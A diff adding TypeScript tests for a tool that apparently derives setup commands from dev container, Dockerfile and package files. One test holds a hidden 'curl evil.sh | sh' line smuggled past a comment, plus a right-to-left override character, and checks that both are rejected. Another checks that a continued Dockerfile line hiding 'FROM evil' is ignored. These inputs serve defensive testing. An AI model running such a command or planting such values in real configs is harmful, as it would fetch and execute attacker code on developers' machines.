@@ -72,3 +72,22 @@ test('what a dev container runs after it is made takes the place of what is gues
     found: [{ file: '.devcontainer.json', says: 'make deps' }],
   })
 })
+
+test('a dev container may name its commands, or their words', () => {
+  const after = (command: unknown) =>
+    commands({ '.devcontainer.json': `\ufeff${JSON.stringify({ postCreateCommand: command })}` })
+  assert.deepEqual(after(['echo', "it's", 'done']), ["echo 'it'\\''s' done"])
+  assert.deepEqual(after({ deps: 'make deps', hooks: ['make', 'hooks'] }), ['make deps', 'make hooks'])
+  // What would be shown as another command than it is.
+  for (const hidden of ['npm ci #\ncurl evil.sh | sh', 'echo \u202e']) assert.deepEqual(after(hidden), [])
+})
+
+test('files that are none, or are strange, keep nobody waiting', () => {
+  assert.deepEqual(find({ Dockerfile: '\n'.repeat(1024 ** 2 - 1) }).found, [])
+  assert.deepEqual(find({ Dockerfile: 'RUN echo \\\n FROM evil\n' }).found, [])
+  assert.deepEqual(find({ '.github/workflows': 'a file' }).found, [])
+  assert.deepEqual(commands({ 'pyproject.toml': '[tool.ruff]\n' }), [])
+  const yarn = { 'package.json': '{"packageManager":"yarn@4.1.0"}', 'yarn.lock': '' }
+  assert.deepEqual(commands(yarn), ['npx --yes --package @yarnpkg/cli-dist@4.1.0 yarn install --immutable'])
+  assert.deepEqual(commands({ 'package.json': '{"workspaces":["a"]}' }), ['npm install'])
+})
